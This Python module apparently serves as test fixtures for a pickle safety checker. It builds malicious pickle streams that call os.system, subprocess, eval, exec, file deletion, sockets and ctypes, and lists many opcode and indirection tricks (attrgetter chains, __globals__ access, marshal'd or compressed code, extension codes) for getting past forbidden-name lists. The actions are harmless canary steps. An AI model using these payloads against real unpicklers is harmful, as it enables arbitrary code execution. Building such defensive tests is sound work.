"""Pickles that call forbidden functions: one function each, and one function in every way that opcodes offer."""

from __future__ import annotations

import collections
import copyreg
import functools
import marshal
import os
import pickle
import struct
import zlib
from collections.abc import Iterator
from typing import Any, NamedTuple

_EXTENSIONS = (0x71, 0x7171, 0x717171)  # codes of one, two and three bytes, as EXT1, EXT2 and EXT4 have them


class Malice(NamedTuple):
    """A stream, and whether plain `pickle.loads` lets it act; `endless` ones act by never returning."""

    stream: bytes
    acts: bool = True
    endless: bool = False


def register_extensions() -> None:
    """Register the codes that some of them use for `os.system`, as a careless program might."""
    for code, name in zip(_EXTENSIONS, ("system", "popen", "remove"), strict=True):
        copyreg.add_extension("os", name, code)


# Opcodes


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def old_named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


class Raw(bytes):
    """Opcodes that stand for a value themselves."""


def value(item: Any) -> bytes:
    """The opcodes that put a value on the stack."""
    if isinstance(item, Raw):
        return item
    if isinstance(item, tuple):
        return b"(" + b"".join(map(value, item)) + b"t"
    return pickle.dumps(item, 2)[2:-1]


def call(function: bytes, *arguments: Any) -> Raw:
    return Raw(function + value(arguments) + b"R")


def stream(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


# What is called


def calls(canary: str) -> Iterator[tuple[str, Malice]]:
    """One function each, by its name."""
    code = f"open({canary!r}, 'w')"
    shell = f"touch '{canary}'"
    nobody = "http://127.0.0.1:9/"

    table: dict[str, tuple[Any, ...]] = {
        "os:system popen": (shell,),
        "os:posix_spawn posix_spawnp": ("/bin/true", ["true"], {}),
        "os:execv execvp": ("/bin/true", ["true"]),
        "os:execl": ("/bin/true", "true"),
        "os:spawnv spawnvp": (0, "/bin/true", ["true"]),
        "os:fork forkpty": (),
        "os:unlink remove rmdir mkdir chdir listdir scandir": (canary,),
        "os:rename replace link symlink": (canary, canary + ".2"),
        "os:chmod truncate": (canary, 0o600),
        "os:chown": (canary, 0, 0),
        "os:utime": (canary,),
        "os:open": (canary, 0o101),
        "os:putenv": ("PCACHE_CANARY", "1"),
        "os:kill killpg": (0, 0),
        "posix:system": (shell,),
        "subprocess:Popen run call check_call check_output getoutput": (["touch", canary],),
        "subprocess:getstatusoutput": (shell,),
        "pty:spawn": (["true"],),
        "builtins:eval exec": (code,),
        "builtins:compile": (code, "", "eval"),
        "builtins:open": (canary, "w"),
        "io:open FileIO": (canary, "w"),
        "_io:open_code": (canary,),
        "builtins:__import__": ("this",),
        "builtins:input breakpoint": (),
        "importlib:import_module": ("this",),
        "importlib.util:find_spec": ("this.that",),
        "pkgutil:resolve_name": ("this:that",),
        "pydoc:locate": ("this",),
        "pydoc:pipepager": ("text", shell),
        "runpy:run_path": (canary,),
        "runpy:run_module": ("this",),
        "runpy:_run_code": (code, {}),
        "timeit:timeit": (code,),
        "cProfile:run": (code,),
        "profile:run": (code,),
        "pdb:run": (code,),
        "code:interact": (),
        "codeop:compile_command": (code,),
        "ast:literal_eval parse": ("1",),
        "marshal:loads": (b"i\0\0\0\0",),
        "pickle:loads _loads": (stream(call(named("os", "system"), shell)),),
        "ctypes:CDLL": ("libc.so.6",),
        "ctypes:string_at": (0, 1),
        "ctypes.util:find_library": ("c",),
        "mmap:mmap": (-1, 4096),
        "webbrowser:open open_new": (nobody,),
        "urllib.request:urlopen": (nobody,),
        "urllib.request:urlretrieve": (nobody, canary),
        "socket:create_connection": (("127.0.0.1", 9),),
        "socket:getaddrinfo": ("127.0.0.1", 9),
        "socket:gethostbyname": ("127.0.0.1",),
        "socket:socket": (),
        "ftplib:FTP": ("127.0.0.1",),
        "smtplib:SMTP": ("127.0.0.1", 9),
        "poplib:POP3": ("127.0.0.1", 9),
        "imaplib:IMAP4": ("127.0.0.1", 9),
        "asyncio:run": (None,),
        "shutil:rmtree": (canary,),
        "shutil:copyfile move": ("/dev/null", canary),
        "shutil:make_archive": (canary, "tar", "/dev"),
        "shutil:unpack_archive": (canary, canary + ".2", "tar"),
        "glob:glob": ("/*",),
        "tempfile:mkstemp mkdtemp NamedTemporaryFile": (),
        "sqlite3:connect": (canary,),
        "dbm.dumb:open": (canary,),
        "shelve:open": (canary,),
        "gzip:open": (canary, "wb"),
        "lzma:open": (canary, "wb"),
        "zipfile:ZipFile": (canary, "w"),
        "tarfile:open": (canary, "w"),
        "logging:FileHandler": (canary,),
        "fileinput:FileInput": (canary,),
        "linecache:getlines": (canary,),
        "py_compile:compile": (canary,),
        "zipimport:zipimporter": (canary,),
        "resource:setrlimit": (7, (64, 64)),
        "signal:pthread_kill": (0, 0),
        "syslog:openlog": (),
        "sys:_getframe": (),
        "sys:addaudithook settrace setprofile": (None,),
        "gc:get_objects": (),
        "multiprocessing.util:spawnv_passfds": (b"/bin/true", [b"true"], []),
        "types:FunctionType": (None, {}),
    }
    quiet = {
        "types:FunctionType",
        "fileinput:FileInput",
        "linecache:getlines",
        "sys:_getframe",
        "zipimport:zipimporter",
    }
    quiet |= {"webbrowser:open", "webbrowser:open_new"}  # where there is no browser
    for names, arguments in table.items():
        module, _, functions = names.partition(":")
        for name in functions.split():
            label = f"{module}:{name}"
            yield label, Malice(stream(call(named(module, name), *arguments)), acts=label not in quiet)


# How it is reached


def ways(canary: str) -> Iterator[tuple[str, Malice]]:
    """The same call by other opcodes, and by indirect ways that a list of forbidden names would miss."""
    code, shell = f"open({canary!r}, 'w')", f"touch '{canary}'"
    system, evaluate, module = named("os", "system"), Raw(named("builtins", "eval")), Raw(named("shutil", "os"))
    getter, getitem, execute = named("builtins", "getattr"), named("operator", "getitem"), named("builtins", "exec")
    lazy = Raw(named("builtins", "map") + value((evaluate, [code])) + b"\x81")
    partial = call(named("functools", "partial"), evaluate, code)
    acting = call(evaluate, code)
    ordered = call(named("collections", "OrderedDict"))
    words = text("os") + b"\x94" + text("system") + b"\x94"
    long_words = b"".join(b"\x8d" + struct.pack("<Q", len(word)) + word for word in (b"os", b"system"))
    modules = Raw(named("sys", "modules"))
    ran = value((shell,)) + b"R"
    bodies = {
        "GLOBAL": call(old_named("os", "system"), shell),
        "GLOBAL of a name of Python 2": call(old_named("__builtin__", "eval"), code),
        "INST": f"(V{shell}\nios\nsystem\n".encode(),
        "OBJ": b"(" + system + text(shell) + b"o",
        "NEWOBJ": named("builtins", "bytes") + value((lazy,)) + b"\x81",
        "NEWOBJ_EX": named("builtins", "bytes") + value((lazy,)) + b"}\x92",
        "TUPLE1": system + text(shell) + b"\x85R",
        "TUPLE2": named("os", "open") + text(canary) + b"KA\x86R",
        "TUPLE3": named("os", "open") + text(canary) + b"KAM\xa4\x01\x87R",
        "a dotted name": call(named("shutil", "os.system"), shell),
        "names of the memo": words + b"00h\0h\1\x93" + ran,
        "names by LONG_BINGET": words + b"00j\0\0\0\0j\1\0\0\0\x93" + ran,
        "names by PUT and GET": text("os") + b"p7\n0" + text("system") + b"p8\n0g7\ng8\n\x93" + ran,
        "names in SHORT_BINUNICODE": b"\x8c\2os\x8c\6system\x93" + ran,
        "names in BINUNICODE8": long_words + b"\x93" + ran,
        "names in UNICODE": b"Vos\nV\\u0073ystem\n\x93" + ran,
        "DUP": evaluate + b"20" + value((code,)) + b"R",
        "after POP_MARK": b"((((1((1" + acting,
        "what is thrown away": text("harmless") + acting + b"0",
        "a key of a dict": b"}" + acting + b"Ns",
        "items of a dict": b"}(" + acting + b"Nu",
        "an item of a list": b"]" + acting + b"a",
        "an item of a set": b"\x8f(" + acting + b"\x90",
        "an item of a frozen set": b"(" + acting + b"\x91",
        "a state": ordered + acting + b"b",
        "a slots state": ordered + b"N" + acting + b"\x86b",
        "what is appended": call(named("collections", "deque")) + b"(" + acting + b"e",
        "a method that appends": call(named("logging.handlers", "BufferingHandler"), 0) + acting + b"a",
        "getattr": call(call(getter, module, "system"), shell),
        "attrgetter": call(call(call(named("operator", "attrgetter"), "system"), module), shell),
        "a chain of attrgetter": call(call(call(named("operator", "attrgetter"), "path.os.system"), module), shell),
        "methodcaller": call(call(named("operator", "methodcaller"), "system", shell), module),
        "itemgetter": call(call(getter, call(call(named("operator", "itemgetter"), "os"), modules), "system"), shell),
        "vars": call(call(getitem, call(named("builtins", "vars"), module), "system"), shell),
        "globals of a function": call(call(getitem, Raw(named("os", "walk.__globals__")), "system"), shell),
        "builtins of a function": call(call(getitem, Raw(named("os", "walk.__builtins__")), "eval"), code),
        "__self__ of a builtin": call(call(getter, Raw(named("builtins", "len.__self__")), "eval"), code),
        "__call__ of a function": call(named("builtins", "eval.__call__"), code),
        "partial": call(partial),
        "__setstate__ of partial": call(named("functools", "partial"), Raw(named("os", "getpid")))
        + value((evaluate, (code,), {}, None))
        + b"b)R",
        "functools.reduce": call(named("functools", "reduce"), Raw(named("os", "open")), [canary, 0o101]),
        "map": call(named("builtins", "list"), lazy),
        "filter": call(named("builtins", "any"), call(named("builtins", "filter"), evaluate, [code])),
        "starmap": call(named("collections", "deque"), call(named("itertools", "starmap"), Raw(system), [(shell,)])),
        "iter with a sentinel": call(named("builtins", "next"), call(named("builtins", "iter"), partial, 0)),
        "defaultdict": call(getitem, call(named("collections", "defaultdict"), partial), "missing"),
        "a callback of re.sub": call(named("re", "sub"), "x", Raw(named("builtins", "breakpoint")), "x"),
        "packed code": call(execute, call(named("zlib", "decompress"), zlib.compress(code.encode()))),
        "encoded code": call(execute, call(named("codecs", "decode"), code.encode().hex().encode(), "hex")),
        "code of marshal": call(execute, call(named("marshal", "loads"), marshal.dumps(compile(code, "", "exec")))),
        "a function of code": call(
            named("types", "FunctionType"),
            call(named("marshal", "loads"), marshal.dumps(compile(code, "", "exec"))),
            {},
        )
        + b")R",
        "code that is replaced": call(named("os", "walk.__code__.replace")),
        "a private import": call(named("importlib", "_bootstrap._gcd_import"), "this"),
        "__main__": call(named("__main__", "__builtins__.eval"), code),
        "EXT1": b"\x82" + struct.pack("<B", _EXTENSIONS[0]) + ran,
        "EXT2": b"\x83" + struct.pack("<H", _EXTENSIONS[1]) + ran,
        "EXT4": b"\x84" + struct.pack("<i", _EXTENSIONS[2]) + value((canary,)) + b"R",
    }
    for name, body in bodies.items():
        yield name, Malice(stream(body))


class Reduced:
    def __init__(self, *parts: Any) -> None:
        self.parts = parts

    def __reduce_ex__(self, protocol: Any) -> Any:
        return self.parts


def protocols(canary: str) -> Iterator[tuple[str, Malice]]:
    """The pickles of an object with a malicious `__reduce__`, in each protocol and each form of `__reduce__`."""
    bad = Reduced(eval, (f"open({canary!r}, 'w')",))
    for protocol in range(6):
        yield f"protocol {protocol}", Malice(pickle.dumps(bad, protocol))
        yield f"twice in a list, protocol {protocol}", Malice(pickle.dumps([bad, [bad]], protocol))
    forms = {
        "a state": Reduced(collections.OrderedDict, (), {"x": bad}),
        "items": Reduced(list, (), None, iter([1, bad])),
        "pairs": Reduced(collections.OrderedDict, (), None, None, iter([(1, bad)])),
        "a setter": Reduced(functools.partial, (os.open,), [canary, 0o101], None, None, functools.reduce),
        "an exception": Reduced(ValueError, (bad,)),
        "a slice": Reduced(slice, (1, bad)),
    }
    for name, form in forms.items():
        yield f"reduced with {name}", Malice(pickle.dumps(form, 5))
    yield (
        "state of many layers",
        Malice(pickle.dumps(functools.reduce(lambda inner, _: {"state": [inner]}, range(90), bad))),
    )
